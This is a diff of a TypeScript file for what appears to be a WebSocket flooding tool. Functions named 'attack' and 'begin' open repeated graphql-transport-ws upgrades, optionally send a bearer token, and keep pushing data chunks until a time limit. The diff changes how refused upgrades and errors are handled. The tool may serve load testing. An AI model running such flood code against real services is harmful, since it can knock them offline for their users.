@@ -4,9 +4,7 @@
  * as it may.
  */
 import { randomBytes } from "node:crypto"
-import { once } from "node:events"
 import { request } from "node:http"
-import type { IncomingMessage } from "node:http"
 import type { Duplex } from "node:stream"
 import { setTimeout as wait } from "node:timers/promises"
 
@@ -78,15 +76,20 @@ const attack = async (url: string, chunk: Buffer, token: string | undefined): Pr
       "sec-websocket-protocol": "graphql-transport-ws"
     }
   }).end()
-  // A refusal is an answer that is no upgrade, and an error like any other.
-  opening.once("response", () => opening.destroy(new Error("refused")))
-  const [, socket] = await once(opening, "upgrade") as [IncomingMessage, Duplex]
+  const socket = await new Promise<Duplex | undefined>((resolve) => {
+    opening.once("upgrade", (_, socket) => resolve(socket)).on("error", () => resolve(undefined))
+      .once("response", () => {
+        opening.destroy()
+        resolve(undefined)
+      })
+  })
+  if (socket === undefined) return
   const closed = new Promise<void>((resolve) => socket.on("error", () => {}).once("close", resolve))
   signal.addEventListener("abort", () => socket.destroy())
   sent.sockets++
   if (token !== undefined) {
     socket.write(frame({ type: "connection_init", payload: { Authorization: `Bearer ${token}` } }))
-    await Promise.race([once(socket, "data"), closed])
+    await Promise.race([new Promise((go) => socket.once("data", go)), closed])
   }
   socket.resume()
   while (!socket.destroyed && !isOver()) {
@@ -103,7 +106,7 @@ const begin = async ({ token, url }: FloodOptions): Promise<void> => {
     const chunk = Buffer.concat(all)
     while (!isOver()) {
       // Who is closed or refused comes back.
-      await attack(url, chunk, isSignedIn ? token : undefined).catch(() => {})
+      await attack(url, chunk, isSignedIn ? token : undefined)
       await wait(awayMillis)
     }
   }))
